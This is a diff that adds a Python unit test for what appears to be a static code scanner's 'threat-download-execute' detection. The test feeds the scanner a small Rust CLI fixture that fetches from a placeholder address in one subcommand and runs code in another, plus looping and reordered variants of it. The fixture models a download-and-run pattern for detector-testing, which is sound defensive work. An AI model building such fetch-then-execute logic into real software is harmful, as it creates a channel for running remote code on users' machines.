@@ -106,6 +106,44 @@ def test_steps_along_calls_in_another_order_are_no_download_run(tmp_path: Path) 
     assert joined(result, "threat-download-execute") == []
 
 
+# A CLI whose `main` runs one subcommand: `sync` fetches, `launch` writes and runs.
+MAIN = """
+mod fetch;
+mod run;
+
+fn main() {
+    let command = std::env::args().nth(1).unwrap_or_default();
+    match command.as_str() {
+        "sync" => {
+            let _ = fetch::get("http://192.0.2.7/agent");
+        }
+        "launch" => run::launch(b""),
+        _ => eprintln!("usage: tool sync|launch"),
+    }
+}
+"""
+
+
+def test_subcommands_main_runs_once_are_apart_but_not_in_a_command_loop(tmp_path: Path) -> None:
+    files = {"src/fetch.rs": FETCH, "src/run.rs": RUN}
+    result = scan(tmp_path, {"src/main.rs": MAIN, **files})
+    assert joined(result, "threat-download-execute") == []
+    # main loops over commands it reads: one run fetches, then launches
+    looping = MAIN.replace("    let command =", "    loop {\n    let command =")
+    looping = looping.replace("    }\n}\n", "    }\n    }\n}\n")
+    result = scan(tmp_path / "loop", {"src/main.rs": looping, **files})
+    assert joined(result, "threat-download-execute")
+    # a step outside the arms is taken with either arm
+    fetching = MAIN.replace('"launch" => run::launch(b""),', '"launch" => {}')
+    fetching = fetching.replace("    match command", '    run::launch(b"");\n    match command')
+    result = scan(tmp_path / "before", {"src/main.rs": fetching, **files})
+    assert joined(result, "threat-download-execute") == []  # (the run comes first)
+    fetching = MAIN.replace('"launch" => run::launch(b""),', '"launch" => {}')
+    fetching = fetching.replace("    }\n}\n", '    }\n    run::launch(b"");\n}\n')
+    result = scan(tmp_path / "after", {"src/main.rs": fetching, **files})
+    assert joined(result, "threat-download-execute")
+
+
 def test_a_flow_spread_over_large_functions_is_not_joined(tmp_path: Path) -> None:
     """A tool that downloads in one subsystem and runs commands in another is not a
     payload spread over helpers."""
